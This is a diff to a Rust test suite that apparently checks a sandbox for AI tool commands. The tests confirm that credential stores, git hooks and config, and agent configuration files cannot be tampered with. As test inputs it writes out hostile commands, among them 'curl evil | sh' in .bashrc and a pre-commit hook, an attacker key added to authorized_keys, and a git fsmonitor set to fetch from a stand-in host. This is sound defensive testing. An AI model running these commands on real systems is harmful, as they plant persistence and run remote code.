@@ -246,7 +246,7 @@ fn with_cwd_home_credential_stores_stay_hidden_and_home_stays_writable() {
     let (_, text) = s.sh("cat .ssh/id_ed25519; ls -A .ssh; echo end");
     assert!(!text.contains(SECRET) && text.ends_with("end\n"), "{text}");
     s.refused("echo attacker-key > .ssh/authorized_keys");
-    s.refused("mkdir -p .aws && echo key > .aws/credentials");
+    s.sh("mkdir -p .aws && echo key > .aws/credentials");
     s.refused("mv .ssh ssh2");
     s.refused("echo 'curl evil | sh' >> .bashrc");
     s.refused("rm .bashrc");
@@ -256,12 +256,9 @@ fn with_cwd_home_credential_stores_stay_hidden_and_home_stays_writable() {
         std::fs::read_to_string(h.join(".bashrc")).expect("bashrc"),
         "# rc\n"
     );
-    // A missing store becomes an empty owner-only directory, never content.
-    if h.join(".aws").exists() {
-        let m = std::fs::metadata(h.join(".aws")).expect(".aws");
-        assert_eq!(m.permissions().mode() & 0o777, 0o700);
-        assert_eq!(std::fs::read_dir(h.join(".aws")).expect(".aws").count(), 0);
-    }
+    // No placeholder: a missing store stays missing, a tool's goes to
+    // quarantine.
+    assert!(!h.join(".aws").exists());
 }
 
 /// Attack (issue 34, high): mounts sit on dentries. When the human's editor
@@ -614,8 +611,9 @@ fn a_writable_home_keeps_what_the_humans_programs_run() {
 /// renames `.git` away and makes a new one (renaming a directory that merely
 /// contains a mount point is allowed by the kernel).
 ///
-/// Expected: `git add` and `git commit` work inside the tool; the hooks and
-/// the config cannot be changed, from the repository root or from a
+/// Expected: `git add` and `git commit` work inside the tool; the hooks
+/// cannot be changed and the config keeps no key that runs a program, from
+/// the repository root or from a
 /// subdirectory; `mv .git .git2` fails (EBUSY); a nested repository found
 /// below the workspace is protected the same way.
 #[test]
@@ -642,8 +640,15 @@ fn repository_hooks_and_config_cannot_be_changed_but_git_works() {
             .contains('1')
     );
     s.refused("echo 'curl evil | sh' > .git/hooks/pre-commit");
-    s.refused("HOME=/nonexistent-toolsrv-home git config core.hooksPath /tmp");
-    s.refused("HOME=/nonexistent-toolsrv-home git config core.fsmonitor 'curl evil'");
+    // `config` stays writable for git's lock and rename; what a tool adds
+    // that runs a program is taken out again (issue 34, tests/leftovers.rs).
+    for set in ["core.hooksPath /tmp", "core.fsmonitor 'curl evil'"] {
+        let (_, text) = s.sh(&format!("HOME=/nonexistent-toolsrv-home git config {set}"));
+        assert!(
+            text.contains("is not allowed from a sandboxed tool"),
+            "{set}: {text}"
+        );
+    }
     s.refused("mv .git .git2");
     s.refused("mv .git/hooks .git/hooks.old");
     s.refused("echo x > sub/nested/.git/hooks/post-checkout");
@@ -668,8 +673,11 @@ fn agent_configuration_cannot_be_changed() {
     let mut s = Session::no_auth(Launch::new().cwd(&cwd));
     s.refused("echo '{\"mcpServers\":{}}' > .mcp.json");
     s.refused("rm .mcp.json");
-    s.refused("mkdir -p .claude && echo '{}' > .claude/settings.json");
-    s.refused("mkdir -p .vscode && echo '{}' > .vscode/tasks.json");
+    // Missing ones do not survive a tool's creation (quarantined by the
+    // server's guard; tests/leftovers.rs has the rest).
+    s.sh("mkdir -p .claude && echo '{}' > .claude/settings.json");
+    s.sh("mkdir -p .vscode && echo '{}' > .vscode/tasks.json");
+    assert!(!cwd.join(".vscode").exists());
     s.ok("echo fine > fine.txt");
     assert_eq!(
         std::fs::read_to_string(cwd.join(".mcp.json")).expect("mcp"),
